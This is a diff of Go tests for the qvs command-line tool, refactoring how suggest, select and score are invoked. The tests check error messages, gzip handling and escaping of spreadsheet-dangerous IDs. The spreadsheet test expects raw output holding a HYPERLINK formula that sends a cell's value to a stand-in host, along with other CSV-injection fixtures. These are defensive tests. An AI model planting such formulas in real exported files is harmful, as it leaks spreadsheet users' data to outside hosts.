@@ -9,7 +9,10 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/qvs-dev/qvs/internal/datasets"
+	"github.com/qvs-dev/qvs/internal/search"
 	"github.com/qvs-dev/qvs/internal/testutil"
+	"github.com/qvs-dev/qvs/internal/vendi"
 )
 
 // TestSuggestIDsSpreadsheetSafe: ids a spreadsheet runs
@@ -32,9 +35,17 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 	}
 	pool := testutil.WriteFile(t, dir, "pool.csv", b.String())
 	obs := testutil.WriteFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
-	args := []string{"as", "suggest", "--cache-dir", filepath.Join(dir, "cache"), "--pool", pool, "--id-column", "id",
-		"--feature-prefix", "x", "--k", "2", "--format", "csv", "--method", "random", "--batch", "30", "--quiet"}
-	code, out, stderr := qvsCmd(t, append(args, "--observed", obs)...)
+	// as suggest --pool pool.csv --id-column id --feature-prefix x --k 2
+	// --format csv --method random --batch 30 --quiet, then set's flags.
+	suggest := func(set func(*ASSuggestOptions)) (int, string, string) {
+		return exitOf(t, RunASSuggest, suggestOn(csvPool(pool, func(c *datasets.CSVConfig) {
+			c.IDColumn, c.FeaturePrefix, c.K = "id", "x", 2
+		}), func(o *ASSuggestOptions, _ *search.Protocol) {
+			o.Format.Value, o.Method, o.Batch = FormatCSV, "random", 30
+			set(o)
+		}), beQuiet, func(e *Env) { e.CacheDir = filepath.Join(dir, "cache") })
+	}
+	code, out, stderr := suggest(func(o *ASSuggestOptions) { o.Observed = obs })
 	if code != 0 {
 		t.Fatal(stderr)
 	}
@@ -59,7 +70,7 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 	}
 	// Fed back, every id names its item: the next suggestion avoids them all.
 	back := testutil.WriteFile(t, dir, "back.csv", fed.String())
-	code, out2, stderr := qvsCmd(t, append(args, "--observed", back, "--batch", "8")...)
+	code, out2, stderr := suggest(func(o *ASSuggestOptions) { o.Observed, o.Batch = back, 8 })
 	if code != 0 {
 		t.Fatalf("output fed back as --observed: %s", stderr)
 	}
@@ -68,17 +79,28 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 			t.Errorf("item %s suggested again after it was observed", r[1])
 		}
 	}
-	code, raw, _ := qvsCmd(t, append(args, "--observed", obs, "--raw-ids")...)
+	code, raw, _ := suggest(func(o *ASSuggestOptions) { o.Observed, o.RawIDs = obs, true })
 	if code != 0 || !strings.Contains(raw, `"=HYPERLINK(""http://x/?""&A1)"`) && !strings.Contains(raw, ",+cmd,") {
 		t.Errorf("--raw-ids: %s", raw)
 	}
 	// select writes its ids the same way.
 	emb := testutil.WriteFile(t, dir, "emb.csv", "id,e1,e2\n=1+1,1,0\n-5,0,1\n@x,1,1\n")
-	code, sel, stderr := qvsCmd(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv")
+	code, sel, stderr := exitOf(t, RunSelect, selectOpts(func(o *SelectOptions) {
+		o.Items.Embeddings = emb
+		o.Items.IDColumn = "id"
+		o.K = 3
+		o.Format.Value = FormatCSV
+	}))
 	if code != 0 || !strings.Contains(sel, ",'=1+1,") || !strings.Contains(sel, ",-5,") || !strings.Contains(sel, ",'@x,") {
 		t.Errorf("select --format csv: exit %d %s\n%s", code, stderr, sel)
 	}
-	if _, sel, _ = qvsCmd(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv", "--raw-ids"); !strings.Contains(sel, ",=1+1,") {
+	if _, sel, _ = exitOf(t, RunSelect, selectOpts(func(o *SelectOptions) {
+		o.Items.Embeddings = emb
+		o.Items.IDColumn = "id"
+		o.K = 3
+		o.Format.Value = FormatCSV
+		o.RawIDs = true
+	})); !strings.Contains(sel, ",=1+1,") {
 		t.Errorf("select --raw-ids:\n%s", sel)
 	}
 }
@@ -98,7 +120,16 @@ func TestScoredTableQuotesUnprintableIDs(t *testing.T) {
 	dir := t.TempDir()
 	pool := testutil.WriteFile(t, dir, "pool.csv", "id,x1,x2\n\"red\x1b[31m\",0,0\nb,1,0\nc,0,1\nd,1,1\ne,2,2\n")
 	obs := testutil.WriteFile(t, dir, "obs.csv", "id,value\nb,1\nc,2\n")
-	code, out, stderr := qvsCmd(t, "as", "suggest", "--pool", pool, "--id-column", "id", "--k", "2", "--observed", obs, "--batch", "3", "--quiet", "--cache-dir", filepath.Join(dir, "cache"))
+	code, out, stderr := exitOf(t, RunASSuggest, suggestOn(csvPool(pool, func(c *datasets.CSVConfig) {
+		c.IDColumn = "id"
+		c.K = 2
+	}), func(o *ASSuggestOptions, _ *search.Protocol) {
+		o.Observed = obs
+		o.Batch = 3
+	}), func(e *Env) {
+		e.Quiet = true
+		e.CacheDir = filepath.Join(dir, "cache")
+	})
 	if code != 0 || strings.ContainsAny(out, "\x1b") || !strings.Contains(out, `"red\x1b[31m"`) {
 		t.Errorf("exit %d, %q, %s", code, out, stderr)
 	}
@@ -110,23 +141,35 @@ func TestASSuggestBadInput(t *testing.T) {
 	dir := t.TempDir()
 	w := func(name, content string) string { return testutil.WriteFile(t, dir, name, content) }
 	pool := w("p.csv", testutil.LinePoolCSV(false))
-	suggest := func(observed string, args ...string) []string {
-		return append([]string{"as", "suggest", "--cache-dir", filepath.Join(dir, "cache"), "--observed", observed, "--k", "2"}, args...)
+	// as suggest --cache-dir DIR --observed observed --k 2 --pool FILE, the
+	// pool's flags, --batch batch
+	suggest := func(observed string, pool datasets.Config, batch int) func() (int, string, string) {
+		return func() (int, string, string) {
+			pool.CSV.K = 2
+			return exitOf(t, RunASSuggest, suggestOn(pool, func(o *ASSuggestOptions, _ *search.Protocol) {
+				o.Observed = observed
+				if batch > 0 {
+					o.Batch = batch
+				}
+			}), func(e *Env) { e.CacheDir = filepath.Join(dir, "cache") })
+		}
 	}
+	idColumn := func(c *datasets.CSVConfig) { c.IDColumn = "id" }
+	prefix := func(c *datasets.CSVConfig) { c.FeaturePrefix = "x" }
 	obs := w("obs.csv", "id,label\nm10,1\n")
-	checkBadInput(t, []badInputCase{
+	testutil.CheckBadInput(t, callRun, []badInputCase{
 		// A repeated id made an id in --observed mean two items; it
 		// used to be accepted (the first row silently won).
-		{"pool repeats an id", suggest(obs, "--pool", w("dup.csv", "id,x1\nm10,1\nm11,2\nm10,3\nm12,4\n"), "--id-column", "id"),
-			1, `dup.csv: line 4, column "id": id "m10" repeats line 2`},
-		{"pool has an empty id", suggest(obs, "--pool", w("empty-id.csv", "id,x1\nm10,1\n,2\nm12,4\n"), "--id-column", "id"),
-			1, `empty-id.csv: line 3, column "id": empty id`},
-		{"observed unknown id", suggest(w("unk.csv", "id,label\nzz,1\n"), "--pool", pool, "--id-column", "id", "--feature-prefix", "x"),
-			1, `unk.csv: line 2: id "zz" is not in pool p`},
-		{"observed NaN label", suggest(w("nan.csv", "index,label\n3,NaN\n"), "--pool", pool, "--feature-prefix", "x"),
-			1, `nan.csv: line 2: label "NaN"`},
-		{"batch larger than the pool", suggest(obs, "--pool", pool, "--id-column", "id", "--feature-prefix", "x", "--batch", "100"),
-			1, "--batch 100: pool p has 40 items, 1 labelled and 0 pending: ask for at most 39"},
+		{Name: "pool repeats an id", In: suggest(obs, csvPool(w("dup.csv", "id,x1\nm10,1\nm11,2\nm10,3\nm12,4\n"), idColumn), 0),
+			Code: 1, Want: `dup.csv: line 4, column "id": id "m10" repeats line 2`},
+		{Name: "pool has an empty id", In: suggest(obs, csvPool(w("empty-id.csv", "id,x1\nm10,1\n,2\nm12,4\n"), idColumn), 0),
+			Code: 1, Want: `empty-id.csv: line 3, column "id": empty id`},
+		{Name: "observed unknown id", In: suggest(w("unk.csv", "id,label\nzz,1\n"), csvPool(pool, idColumn, prefix), 0),
+			Code: 1, Want: `unk.csv: line 2: id "zz" is not in pool p`},
+		{Name: "observed NaN label", In: suggest(w("nan.csv", "index,label\n3,NaN\n"), csvPool(pool, prefix), 0),
+			Code: 1, Want: `nan.csv: line 2: label "NaN"`},
+		{Name: "batch larger than the pool", In: suggest(obs, csvPool(pool, idColumn, prefix), 100),
+			Code: 1, Want: "--batch 100: pool p has 40 items, 1 labelled and 0 pending: ask for at most 39"},
 	})
 }
 
@@ -144,27 +187,38 @@ func TestGzipCSVInputs(t *testing.T) {
 	embPlain := testutil.WriteFile(t, dir, "emb.csv", emb)
 	embGz := testutil.WriteGzip(t, dir, "emb.csv.gz", emb)
 	cache := filepath.Join(dir, "cache")
+	// as suggest --cache-dir DIR --observed obs.csv --batch 3 --format format
+	// --id-column id --feature-prefix x --k 2 --pool pool
+	suggest := func(pool, format string) (int, string, string) {
+		return exitOf(t, RunASSuggest, suggestOn(csvPool(pool, func(c *datasets.CSVConfig) { c.IDColumn, c.FeaturePrefix, c.K = "id", "x", 2 }),
+			func(o *ASSuggestOptions, _ *search.Protocol) { o.Observed, o.Batch, o.Format.Value = obs, 3, format }),
+			func(e *Env) { e.CacheDir = cache })
+	}
 	cases := []struct {
-		name        string
-		plain, gzip []string
+		name, plain, gzip string
+		run               func(file string) (code int, stdout, msg string)
 	}{
-		{"as suggest", []string{"as", "suggest", "--cache-dir", cache, "--observed", obs, "--batch", "3", "--format", "csv", "--id-column", "id", "--feature-prefix", "x", "--k", "2", "--pool", plain},
-			[]string{"as", "suggest", "--cache-dir", cache, "--observed", obs, "--batch", "3", "--format", "csv", "--id-column", "id", "--feature-prefix", "x", "--k", "2", "--pool", gz}},
-		{"score", []string{"score", "--embeddings", embPlain, "--q", "1,inf", "--format", "csv"}, []string{"score", "--embeddings", embGz, "--q", "1,inf", "--format", "csv"}},
+		{"as suggest", plain, gz, func(pool string) (int, string, string) { return suggest(pool, FormatCSV) }},
+		// score --embeddings FILE --q 1,inf --format csv
+		{"score", embPlain, embGz, func(emb string) (int, string, string) {
+			return exitOf(t, RunScore, scoreOpts(func(o *ScoreOptions) {
+				o.Items.Embeddings, o.Orders, o.Format.Value = emb, vendi.Orders{1, vendi.OrderInf}, FormatCSV
+			}))
+		}},
 	}
 	for _, c := range cases {
-		code, want, errs := qvsCmd(t, c.plain...)
+		code, want, errs := c.run(c.plain)
 		if code != 0 || want == "" {
 			t.Fatalf("%s plain: exit %d: %s", c.name, code, errs)
 		}
-		code, got, errs := qvsCmd(t, c.gzip...)
+		code, got, errs := c.run(c.gzip)
 		if code != 0 || got != want {
 			t.Errorf("%s gzip: exit %d (%s)\n%s\nwant\n%s", c.name, code, errs, got, want)
 		}
 	}
 	raw, _ := os.ReadFile(gz)
 	bad := testutil.WriteFile(t, dir, "bad.csv.gz", string(raw[:len(raw)/2]))
-	code, out, errs := qvsCmd(t, "as", "suggest", "--cache-dir", cache, "--observed", obs, "--batch", "3", "--id-column", "id", "--feature-prefix", "x", "--k", "2", "--pool", bad)
+	code, out, errs := suggest(bad, FormatTable)
 	if code != 1 || out != "" || !strings.Contains(errs, bad) || !strings.Contains(errs, "gzip") {
 		t.Errorf("truncated gzip: exit %d, stdout %q, stderr %q", code, out, errs)
 	}
@@ -192,25 +246,53 @@ func TestSingleLineCSVBounded(t *testing.T) {
 	pool := testutil.WriteFile(t, dir, "pool.csv", "id,x\na,1\nb,2\nc,3\n")
 	obs := testutil.WriteFile(t, dir, "obs.csv", "index,label\n0,1\n")
 	space := testutil.WriteFile(t, dir, "s.yaml", "parameters:\n  - {name: a, lower: 0, upper: 1}\n")
-	suggest := []string{"--cache-dir", filepath.Join(dir, "cache"), "as", "suggest", "--pool", pool, "--id-column", "id", "--k", "1", "--batch", "1", "--method", "random", "--observed"}
+	// --cache-dir DIR as suggest --pool pool.csv --id-column id --k 1 --batch 1 --method random --observed observed
+	suggest := func(observed string) func() (int, string, string) {
+		return func() (int, string, string) {
+			return exitOf(t, RunASSuggest, suggestOn(csvPool(pool, func(c *datasets.CSVConfig) { c.IDColumn, c.K = "id", 1 }),
+				func(o *ASSuggestOptions, _ *search.Protocol) { o.Batch, o.Method, o.Observed = 1, "random", observed }),
+				func(e *Env) { e.CacheDir = filepath.Join(dir, "cache") })
+		}
+	}
 	for _, c := range []struct {
 		name string
-		args []string
+		run  func() (code int, stdout, msg string)
 		want string
 	}{
-		{"kernel", []string{"score", "--kernel", long}, long + ": line 1 is longer than 1048576 bytes"},
-		{"embeddings", []string{"score", "--embeddings", long}, long + ": line 1 is longer than 1048576 bytes"},
+		{"kernel", func() (int, string, string) {
+			return exitOf(t, RunScore, scoreOpts(func(o *ScoreOptions) { o.Items.Kernel = long }))
+		}, long + ": line 1 is longer than 1048576 bytes"},
+		{"embeddings", func() (int, string, string) {
+			return exitOf(t, RunScore, scoreOpts(func(o *ScoreOptions) { o.Items.Embeddings = long }))
+		}, long + ": line 1 is longer than 1048576 bytes"},
 		// A valid --observed: it is checked before the pool is read.
-		{"pool", []string{"as", "suggest", "--pool", long, "--observed", obs, "--batch", "1", "--method", "random"}, long + ": line 1 is longer"},
-		{"observed", append(suggest, long), long + ": line 1 is longer"},
-		{"evals", []string{"bayesopt", "suggest", "--space", space, "--observed", long}, long + ": line 1 is longer"},
-		{"wide header, observed", append(suggest, wide), `"hhhhhhhhhh`},
-		{"wide header, embeddings column", []string{"score", "--embeddings", wide, "--quality-column", "q"}, `"hhhhhhhhhh`},
+		{"pool", func() (int, string, string) {
+			return exitOf(t, RunASSuggest, suggestOn(csvPool(long), func(o *ASSuggestOptions, _ *search.Protocol) {
+				o.Observed = obs
+				o.Batch = 1
+				o.Method = "random"
+			}))
+		}, long + ": line 1 is longer"},
+		{"observed", suggest(long), long + ": line 1 is longer"},
+		{"evals", func() (int, string, string) {
+			return exitOf(t, RunBOSuggest, boSuggestOpts(func(o *BOSuggestOptions) {
+				o.Continuous.Space = space
+				o.Observed = long
+			}))
+		}, long + ": line 1 is longer"},
+		{"wide header, observed", suggest(wide), `"hhhhhhhhhh`},
+		{"wide header, embeddings column", func() (int, string, string) {
+			return exitOf(t, RunScore, scoreOpts(func(o *ScoreOptions) {
+				o.Items.Embeddings = wide
+				o.Items.Emb.QualityColumn = "q"
+				o.Items.EmbFlags = []string{"quality-column"}
+			}))
+		}, `"hhhhhhhhhh`},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			var code int
 			var out, errs string
-			allocated := testutil.Allocated(func() { code, out, errs = qvsCmd(t, c.args...) })
+			allocated := testutil.Allocated(func() { code, out, errs = c.run() })
 			if code == 0 || out != "" || !strings.Contains(errs, c.want) || len(errs) > 600 {
 				t.Errorf("exit %d, stdout %q, stderr (%d bytes) %.600q; want an error containing %q under 600 bytes", code, out, len(errs), errs, c.want)
 			}
